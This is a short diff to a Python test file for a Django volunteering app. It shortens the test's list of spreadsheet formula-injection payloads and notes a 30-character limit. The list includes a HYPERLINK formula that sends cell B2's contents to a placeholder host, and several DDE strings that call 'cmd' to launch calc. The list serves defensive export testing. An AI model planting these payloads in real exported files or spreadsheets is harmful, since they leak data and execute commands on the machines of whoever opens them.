@@ -30,8 +30,9 @@ from tests.volunteers.conftest import make_opportunity, make_organisation
 
 pytestmark = pytest.mark.django_db
 
+# At most 30 characters: they also go into short columns (phone numbers), which PostgreSQL enforces.
 PAYLOADS = [
-    '=HYPERLINK("http://x/?"&B2,"Kliknij")',
+    '=HYPERLINK("http://x/?"&B2)',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
